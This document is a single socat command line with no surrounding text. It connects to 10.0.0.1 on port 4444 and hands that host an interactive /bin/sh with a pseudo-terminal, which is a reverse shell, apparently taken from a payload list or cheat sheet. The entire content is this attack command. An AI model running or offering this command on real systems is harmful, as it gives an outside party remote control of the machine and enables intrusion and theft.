socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr
